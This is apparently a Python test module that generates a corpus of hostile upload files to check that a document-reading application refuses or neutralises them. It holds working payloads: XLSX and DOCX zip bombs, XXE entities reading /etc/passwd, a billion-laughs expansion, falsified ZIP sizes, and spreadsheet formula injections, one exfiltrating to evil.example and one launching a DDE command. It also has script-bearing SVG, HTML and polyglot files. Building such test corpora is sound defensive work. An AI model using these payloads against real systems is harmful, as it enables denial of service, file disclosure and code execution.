"""A corpus of hostile files, generated (nothing binary is committed).

`build(directory)` writes every file and returns {name: path}; `python -m tests.hostile.corpus
DIR` writes them for a manual try. Each is small on disk (the largest is a few MB) and
dangerous when parsed naively: zip bombs, a sheet declaring A1:XFD1048576, very many rows,
external entities, formula cells, scripts in SVG/HTML, a PDF that is HTML, polyglots.
"""

from __future__ import annotations

import io
import struct
import sys
import zipfile
from pathlib import Path

GIB = 1024 * 1024 * 1024

HEADER = ["Prosjekt", "Periode", "Deltagere", "Arbeidsform", "9k resultat", "Status", "Kommentar"]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
]


def _xlsx_skeleton() -> dict[str, bytes]:
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "x"
    buffer = io.BytesIO()
    book.save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _docx_skeleton() -> dict[str, bytes]:
    import docx

    buffer = io.BytesIO()
    docx.Document().save(buffer)
    with zipfile.ZipFile(buffer) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def _zip(parts: dict[str, bytes], streamed: dict[str, tuple[bytes, bytes, bytes, int]]) -> bytes:
    """parts as they are; streamed[name] = (head, repeated chunk, tail, times), written
    without holding the expanded member in memory."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            if name in streamed:
                head, chunk, tail, times = streamed[name]
                info = zipfile.ZipInfo(name)
                info.compress_type = zipfile.ZIP_DEFLATED
                with archive.open(info, "w", force_zip64=True) as member:
                    member.write(head)
                    for _ in range(times):
                        member.write(chunk)
                    member.write(tail)
            else:
                archive.writestr(name, data)
    return buffer.getvalue()


_SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)


def xlsx_far_cell() -> bytes:
    """Declares A1:XFD1048576 and has one cell at the far corner (openpyxl in read-only
    mode pads every row to the declared width: 17 billion cells)."""
    parts = _xlsx_skeleton()
    parts["xl/worksheets/sheet1.xml"] = (
        _SHEET_HEAD + b'<dimension ref="A1:XFD1048576"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>Prosjekt</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>far</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    return _zip(parts, {})


def xlsx_many_rows(rows: int = 300_000) -> bytes:
    """A header and very many short rows (a few MB compressed)."""
    parts = _xlsx_skeleton()
    head = _SHEET_HEAD + b"<sheetData>"
    cells = "".join(
        f'<c r="{col}1" t="inlineStr"><is><t>{text}</t></is></c>'
        for col, text in zip("ABCDEFG", HEADER, strict=True)
    )
    body = [f'<row r="1">{cells}</row>'.encode()]
    for r in range(2, rows + 2):
        body.append(
            f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>P{r}</t></is></c>'
            f'<c r="B{r}"><v>2001</v></c></row>'.encode()
        )
    parts["xl/worksheets/sheet1.xml"] = head + b"".join(body) + b"</sheetData></worksheet>"
    return _zip(parts, {})


def xlsx_bomb(size: int = GIB) -> bytes:
    """sheet1.xml unpacks to more than `size` bytes (a padded inline string)."""
    parts = _xlsx_skeleton()
    parts["xl/worksheets/sheet1.xml"] = b""
    head = _SHEET_HEAD + b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
    tail = b"</t></is></c></row></sheetData></worksheet>"
    chunk = b"A" * (1024 * 1024)
    return _zip(parts, {"xl/worksheets/sheet1.xml": (head, chunk, tail, size // len(chunk) + 1)})


def docx_bomb(size: int = GIB) -> bytes:
    """word/document.xml unpacks to more than 1 GiB."""
    parts = _docx_skeleton()
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>"
    )
    tail = b"</w:t></w:r></w:p></w:body></w:document>"
    chunk = b"A" * (1024 * 1024)
    return _zip(parts, {"word/document.xml": (head, chunk, tail, size // len(chunk) + 1)})


def zip_lying_sizes() -> bytes:
    """An XLSX whose sheet declares 100 bytes uncompressed but holds 64 MB."""
    parts = _xlsx_skeleton()
    big = _SHEET_HEAD + b"<sheetData>" + b" " * (64 * 1024 * 1024) + b"</sheetData></worksheet>"
    parts["xl/worksheets/sheet1.xml"] = big
    data = bytearray(_zip(parts, {}))
    real = len(big)
    packed_real = struct.pack("<I", real)
    # patch the local header (offset 22) and the central directory entry (offset 24)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = 0
        while (start := data.find(signature, start)) != -1:
            at = start + offset
            if data[at : at + 4] == packed_real:
                data[at : at + 4] = struct.pack("<I", 100)
            start += 4
    return bytes(data)


_XXE = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
)
_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lollollollollollollollollollol">'
    + b"".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'.encode()
        for i in range(1, 10)
    )
    + b"]>\n"
)


def xlsx_xxe() -> bytes:
    parts = _xlsx_skeleton()
    parts["xl/worksheets/sheet1.xml"] = (
        _XXE + _SHEET_HEAD[_SHEET_HEAD.index(b"<worksheet") :] + b"<sheetData>"
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>'
        b"</sheetData></worksheet>"
    )
    return _zip(parts, {})


def docx_xxe() -> bytes:
    parts = _docx_skeleton()
    parts["word/document.xml"] = (
        _XXE + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
        b'main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>'
    )
    return _zip(parts, {})


def docx_billion_laughs() -> bytes:
    parts = _docx_skeleton()
    parts["word/document.xml"] = (
        _LAUGHS + b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/'
        b'main"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>'
    )
    return _zip(parts, {})


def formula_rows() -> list[list[str]]:
    rows = [["1) Driftsprosjekter"], HEADER]
    for i, formula in enumerate(FORMULAS, start=1):
        rows.append([f"Prosjekt {i}", "2001 - 2003", "Re", "", "", "", formula])
    rows.append(["Mellomrom", "2001", "Re", "", "", "", " =1+1"])
    return rows


def formulas_tsv() -> bytes:
    return "\n".join("\t".join(r) for r in formula_rows()).encode() + b"\n"


def formulas_csv() -> bytes:
    import csv

    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerows(formula_rows())
    return buffer.getvalue().encode()


def formulas_xlsx() -> bytes:
    """The formula texts as text cells (what an exported overview holds)."""
    import openpyxl
    from openpyxl.cell.cell import Cell

    book = openpyxl.Workbook()
    sheet = book.active
    for row in formula_rows():
        cells = []
        for value in row:
            cell = Cell(sheet)
            cell._value, cell.data_type = value, "s"
            cells.append(cell)
        sheet.append(cells)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


SVG_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.cookie)</script></svg>\n"
)
HTML_SCRIPT = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
PDF_REALLY_HTML = b"<html><body><script>alert(1)</script>%PDF-1.4</body></html>"
POLYGLOT_GIF_HTML = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/<script>alert(1)</script>"
POLYGLOT_PDF_HTML = b"%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF"
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64
XML_XXE = _XXE + b"<foo>&xxe;</foo>"


# name → (file name as uploaded, builder). The names lie where a liar would.
FILES = {
    "xlsx_far_cell": ("oversikt.xlsx", xlsx_far_cell),
    "xlsx_many_rows": ("oversikt.xlsx", xlsx_many_rows),
    "xlsx_rows_over_limit": ("oversikt.xlsx", lambda: xlsx_many_rows(25_000)),
    "xlsx_bomb": ("oversikt.xlsx", xlsx_bomb),
    "docx_bomb": ("oversikt.docx", docx_bomb),
    "zip_lying_sizes": ("oversikt.xlsx", zip_lying_sizes),
    "xlsx_xxe": ("oversikt.xlsx", xlsx_xxe),
    "docx_xxe": ("oversikt.docx", docx_xxe),
    "docx_billion_laughs": ("oversikt.docx", docx_billion_laughs),
    "formulas_tsv": ("oversikt.txt", formulas_tsv),
    "formulas_csv": ("oversikt.csv", formulas_csv),
    "formulas_xlsx": ("oversikt.xlsx", formulas_xlsx),
    "svg_script": ("rapport.svg", lambda: SVG_SCRIPT),
    "svg_named_png": ("rapport.png", lambda: SVG_SCRIPT),
    "html_script": ("rapport.html", lambda: HTML_SCRIPT),
    "pdf_really_html": ("rapport.pdf", lambda: PDF_REALLY_HTML),
    "polyglot_gif_html": ("bilde.gif", lambda: POLYGLOT_GIF_HTML),
    "polyglot_pdf_html": ("rapport.pdf", lambda: POLYGLOT_PDF_HTML),
    "executable": ("rapport.pdf", lambda: EXECUTABLE),
    "xml_xxe": ("rapport.txt", lambda: XML_XXE),
}
# the files every reader must refuse (the formula files are read, their text kept)
BOMBS = [
    "xlsx_far_cell",
    "xlsx_many_rows",
    "xlsx_rows_over_limit",
    "xlsx_bomb",
    "docx_bomb",
    "zip_lying_sizes",
    "xlsx_xxe",
    "docx_xxe",
    "docx_billion_laughs",
]
FORMULA_FILES = ["formulas_tsv", "formulas_csv", "formulas_xlsx"]
ACTIVE = [
    "svg_script",
    "svg_named_png",
    "html_script",
    "pdf_really_html",
    "polyglot_gif_html",
    "polyglot_pdf_html",
    "executable",
    "xml_xxe",
]


def build(directory: Path) -> dict[str, Path]:
    directory.mkdir(parents=True, exist_ok=True)
    out = {}
    for key, (filename, builder) in FILES.items():
        path = directory / key / filename
        if not path.exists():
            path.parent.mkdir(exist_ok=True)
            path.write_bytes(builder())
        out[key] = path
    return out


if __name__ == "__main__":
    for key, path in build(Path(sys.argv[1])).items():
        print(f"{path.stat().st_size:>10}  {key:22} {path}")
